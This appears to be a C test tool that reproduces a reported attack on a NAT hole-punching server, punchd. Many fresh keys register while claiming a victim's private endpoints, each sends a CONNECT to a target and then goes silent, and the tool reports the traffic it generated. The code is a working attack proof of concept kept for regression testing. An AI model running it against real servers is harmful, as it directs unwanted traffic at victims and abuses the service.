/* SPDX-License-Identifier: MIT */
/*
 * The attacker of issue 12 (findings 2 and 3), for tests only: from one
 * UDP socket, N fresh keys each register at punchd claiming the given
 * private endpoints (a victim's), CONNECT to TARGET once, and never answer
 * anything after. Its names are silentK-RUN, RUN random per run. Prints on
 * stdout what it sent:
 *   sent BYTES bytes in DATAGRAMS datagrams for N keys
 * Exit 0 when every key registered and asked, 1 otherwise.
 *
 *   silent_peers SERVER_IP:PORT TARGET N [PRIVATE_IP:PORT]...
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <sodium.h>

#include "crypto/auth.h"
#include "crypto/identity.h"
#include "io/net.h"
#include "wire/msg.h"

typedef struct attacker {
    int fd;
    punch_addr server;
    uint64_t bytes, datagrams;
    uint32_t run;              /* in the names: a name never comes back with another key */
    size_t n_private;
    punch_addr priv[PUNCH_MSG_MAX_PRIVATE];
} attacker;

/* Encode m (MAC'd with mac_key when its type has one) and send it. */
static int send_msg(attacker *at, punch_msg *m, const uint8_t *mac_key)
{
    uint8_t buf[1500];
    size_t len;
    if (punch_msg_encode(m, buf, sizeof(buf), &len) != 0)
        return -1;
    if (punch_msg_has_mac(m->type))
        punch_auth_mac(mac_key, buf, len - PUNCH_MSG_MAC_LEN, buf + len - PUNCH_MSG_MAC_LEN);
    struct sockaddr_storage ss;
    socklen_t sl = punch_addr_to_sockaddr(&at->server, &ss);
    if (sendto(at->fd, buf, len, 0, (struct sockaddr *)&ss, sl) != (ssize_t)len)
        return -1;
    at->bytes += len;
    at->datagrams++;
    return 0;
}

/* Wait (up to the socket's timeout) for an answer of this type and txid. */
static int await(attacker *at, punch_msg_type type, const uint8_t *txid, punch_msg *out,
                 uint8_t *buf, size_t cap)
{
    for (;;) {
        ssize_t n = recv(at->fd, buf, cap, 0);
        if (n < 0)
            return -1;
        if (punch_msg_decode(buf, (size_t)n, out) == 0 && out->type == type &&
            memcmp(out->txid, txid, PUNCH_MSG_TXID_LEN) == 0)
            return 0;
    }
}

/* One key: HELLO, REGISTER with the claimed endpoints, CONNECT target. */
static int one_key(attacker *at, unsigned k, const char *target)
{
    uint8_t secret[PUNCH_KEY_LEN], mac_key[PUNCH_AUTH_KEY_LEN], buf[1500];
    punch_identity id;
    randombytes_buf(secret, sizeof(secret));
    if (punch_identity_from_secret(&id, secret) != 0)
        return -1;
    punch_msg m = {.type = PUNCH_MSG_HELLO}, in;
    randombytes_buf(m.txid, sizeof(m.txid));
    if (send_msg(at, &m, NULL) != 0 || await(at, PUNCH_MSG_COOKIE, m.txid, &in, buf, sizeof(buf)))
        return -1;
    if (punch_auth_derive(&id, in.key, mac_key) != 0)
        return -1;
    m = (punch_msg){.type = PUNCH_MSG_REGISTER, .n_private = at->n_private};
    randombytes_buf(m.txid, sizeof(m.txid));
    memcpy(m.cookie, in.cookie, PUNCH_MSG_COOKIE_LEN);
    memcpy(m.key, id.public_key, PUNCH_KEY_BYTES);
    snprintf(m.name, sizeof(m.name), "silent%u-%08x", k, at->run);
    memcpy(m.private_addr, at->priv, at->n_private * sizeof(punch_addr));
    if (send_msg(at, &m, mac_key) != 0 ||
        await(at, PUNCH_MSG_REGISTERED, m.txid, &in, buf, sizeof(buf)) != 0)
        return -1;
    m = (punch_msg){.type = PUNCH_MSG_CONNECT};
    randombytes_buf(m.txid, sizeof(m.txid));
    memcpy(m.key, id.public_key, PUNCH_KEY_BYTES);
    snprintf(m.name, sizeof(m.name), "%s", target);
    return send_msg(at, &m, mac_key);
}

int main(int argc, char **argv)
{
    attacker at = {0};
    if (argc < 4 || sodium_init() < 0 || punch_addr_parse(argv[1], 3478, &at.server) != 0) {
        fprintf(stderr, "usage: silent_peers SERVER_IP:PORT TARGET N [PRIVATE_IP:PORT]...\n");
        return 2;
    }
    unsigned n = (unsigned)strtoul(argv[3], NULL, 10);
    at.run = randombytes_random();
    for (int i = 4; i < argc && at.n_private < PUNCH_MSG_MAX_PRIVATE; i++)
        if (punch_addr_parse(argv[i], 0, &at.priv[at.n_private++]) != 0) {
            fprintf(stderr, "silent_peers: '%s' is not an IP:PORT\n", argv[i]);
            return 2;
        }
    at.fd = socket(at.server.family == PUNCH_AF_INET6 ? AF_INET6 : AF_INET, SOCK_DGRAM, 0);
    struct timeval tv = {.tv_sec = 2};
    if (at.fd < 0 || setsockopt(at.fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) != 0) {
        perror("silent_peers: socket");
        return 1;
    }
    unsigned done = 0;
    for (unsigned k = 0; k < n; k++)
        done += one_key(&at, k, argv[2]) == 0;
    printf("sent %llu bytes in %llu datagrams for %u keys\n", (unsigned long long)at.bytes,
           (unsigned long long)at.datagrams, done);
    close(at.fd); /* silent from now on: nothing it is sent is answered */
    return done == n ? 0 : 1;
}
